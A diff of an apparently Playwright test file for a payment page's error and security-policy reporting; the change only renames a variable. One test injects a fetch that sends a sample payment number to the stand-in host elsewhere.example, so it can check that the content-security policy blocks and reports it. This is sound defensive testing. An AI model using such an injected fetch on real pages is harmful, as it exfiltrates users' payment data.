@@ -26,7 +26,7 @@ test('a form that throws says so, and the previous release finds what was typed'
   fragileSite,
 }) => {
   const { served, previous } = await releaseCopy(fragileSite.folder, 'lookup', throwsAtSubmit);
-  const { told, answers } = reportsOf(page);
+  const { reports, answers } = reportsOf(page);
   await page.goto(`${fragileSite.origin}/tai`);
   await markDocument(page);
   await citizen.enter(samples.payable);
@@ -52,7 +52,7 @@ test('a form that throws says so, and the previous release finds what was typed'
   await expectNoReloadNorTheft(page);
   const { name: part, build } = served.release;
   await expect
-    .poll(() => told)
+    .poll(() => reports)
     .toEqual([{ part, build, kind: 'handler', reason: 'on purpose, …' }]);
   await expect.poll(() => answers).toEqual([204]);
 });
@@ -117,13 +117,13 @@ test('a timer and a promise that fail are reported of their release, and stop no
       setTimeout(() => { throw Error('on purpose, later'); }, 200);
       for (const reason of ['first', 'second']) Promise.reject(Error('on purpose, ' + reason));`),
   );
-  const { told, answers } = reportsOf(page);
+  const { reports, answers } = reportsOf(page);
   await enterPayment(page, fragileSite.origin);
   await expectDetail(page);
   const { name: part, build } = served.release;
-  await expect.poll(() => told).toHaveLength(2);
+  await expect.poll(() => reports).toHaveLength(2);
   await expect
-    .poll(() => told)
+    .poll(() => reports)
     .toEqual([
       { part, build, kind: 'promise', reason: 'on purpose, first' },
       { part, build, kind: 'script', reason: 'on purpose, later' },
@@ -134,7 +134,7 @@ test('a timer and a promise that fail are reported of their release, and stop no
   await page.reload();
   await expectDetail(page);
   await page.waitForTimeout(500);
-  await expect.poll(() => told).toHaveLength(2);
+  await expect.poll(() => reports).toHaveLength(2);
 });
 
 test('what the policy refuses is reported once, without what was to be given away', async ({
@@ -147,13 +147,13 @@ test('what the policy refuses is reported once, without what was to be given awa
     addCode(`for (const n of [1, 2, 3])
       fetch('https://elsewhere.example/${samples.payable.number}?n=' + n).catch(() => {});`),
   );
-  const { told } = reportsOf(page);
+  const { reports } = reportsOf(page);
   await enterPayment(page, fragileSite.origin);
   await expectDetail(page);
   const { name: part, build } = served.release;
-  await expect.poll(() => told).toHaveLength(1);
+  await expect.poll(() => reports).toHaveLength(1);
   await expect
-    .poll(() => told)
+    .poll(() => reports)
     .toEqual([{ part, build, kind: 'policy', reason: 'connect-src https://elsewhere.example' }]);
 });
 
